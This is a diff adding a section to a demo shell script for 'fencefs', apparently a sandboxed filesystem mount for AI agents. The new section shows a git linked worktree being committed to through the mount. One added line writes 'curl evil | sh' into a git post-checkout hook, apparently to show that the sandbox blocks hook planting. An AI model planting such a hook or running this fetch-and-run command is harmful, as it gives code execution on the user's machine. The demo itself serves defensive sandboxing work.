@@ -187,4 +187,20 @@ printf '\n$ fencefs stage apply --dir %s NOTES.md lib     # a partial apply\n' "
 printf '\n$ fencefs stage discard --dir %s                  # drop the rest (target/ stays)\n' "$STAGE"
 "$BIN" stage discard --dir "$STAGE" | sed 's/^/    /'
 printf '    host now: %s\n' "$(cd "$WS" && ls -d NOTES.md lib target 2>&1 | tr '\n' ' ')"
+echo
+echo "== a git linked worktree: git works through the mount with no host path"
+WT=$TMP/worktree
+git -C "$WS" worktree add -q "$WT" -b agent-1
+"$BIN" mount -p "$POLICY" "$WT" "$MNT" 2>"$TMP/daemon-wt.log" &
+PID=$!
+for _ in $(seq 200); do grep -qF " $MNT " /proc/self/mountinfo && break; sleep 0.05; done
+grep -qF " $MNT " /proc/self/mountinfo || { cat "$TMP/daemon-wt.log" >&2; exit 1; }
+printf '    host .git file: %s\n' "$(cat "$WT/.git")"
+show 'cat .git'
+show 'echo "// edited in a worktree" >> src/main.rs && git -c user.name=agent -c user.email=agent@example.invalid commit -qam "agent commit in a worktree" && git log --oneline -2'
+show 'git worktree list'
+show 'echo "curl evil | sh" > .fencefs-git/hooks/post-checkout'
+kill -TERM "$PID"; wait "$PID" || true; PID=
+printf '\n$ git -C workspace log --oneline -1 agent-1      # on the host\n'
+git -C "$WS" log --oneline -1 agent-1 | sed 's/^/    /'
 echo "done"
